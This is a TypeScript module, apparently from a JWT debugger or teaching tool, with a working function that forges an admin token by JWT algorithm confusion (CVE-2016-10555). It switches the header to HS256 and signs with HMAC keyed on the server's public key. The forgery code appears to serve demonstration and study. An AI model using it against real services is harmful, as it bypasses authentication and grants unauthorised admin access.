import type { PublicJwk } from '../../../shared/api/jwks.ts';
import { base64url } from '../debugger/bytes.ts';
import { publicKeyPem } from '../debugger/pem.ts';
import {
  decodeSegmentJson,
  formatJson,
  splitToken,
  tamper,
  withField,
  type PartResult,
} from '../debugger/jwt-parts.ts';

/** What an attacker edits: the token's header and payload as JSON text, and its signature. */
interface EditableToken {
  headerText: string;
  payloadText: string;
  signature: string;
}

function unwrap<T>(result: PartResult<T>): T {
  if (!result.ok) throw new Error(result.error);
  return result.value;
}

function editable(token: string): EditableToken {
  const segments = unwrap(splitToken(token));
  return {
    headerText: formatJson(unwrap(decodeSegmentJson(segments.header))),
    payloadText: formatJson(unwrap(decodeSegmentJson(segments.payload))),
    signature: segments.signature,
  };
}

/** The public key as the PEM text (SPKI) a vulnerable library would have been configured with. */
export async function jwkPem(jwk: PublicJwk): Promise<string> {
  const algorithm = jwk.kty === 'EC' ? { name: 'ECDSA', namedCurve: String(jwk.crv) } : { name: String(jwk.crv) };
  return publicKeyPem(await crypto.subtle.importKey('jwk', jwk, algorithm, true, ['verify']));
}

/**
 * Algorithm confusion (CVE-2016-10555): the header of an ES256 (or EdDSA) token switched to HS256, its
 * kid kept, the payload made admin, and an HMAC-SHA256 over it keyed with the server's *public* key, PEM
 * text as anyone can download it. A server that let the header choose the algorithm would verify this
 * HMAC with that same public key and accept it.
 */
export async function algorithmConfusionToken(token: string, publicJwk: PublicJwk): Promise<string> {
  const { headerText, payloadText } = editable(token);
  const unsigned = unwrap(
    tamper(unwrap(withField(headerText, 'alg', 'HS256')), unwrap(withField(payloadText, 'role', 'admin')), '', 'strip'),
  );
  const signingInput = unsigned.slice(0, -1);
  const encoder = new TextEncoder();
  const secret = await crypto.subtle.importKey(
    'raw',
    encoder.encode(await jwkPem(publicJwk)),
    { name: 'HMAC', hash: 'SHA-256' },
    false,
    ['sign'],
  );
  const mac = await crypto.subtle.sign('HMAC', secret, encoder.encode(signingInput));
  return `${signingInput}.${base64url(new Uint8Array(mac))}`;
}
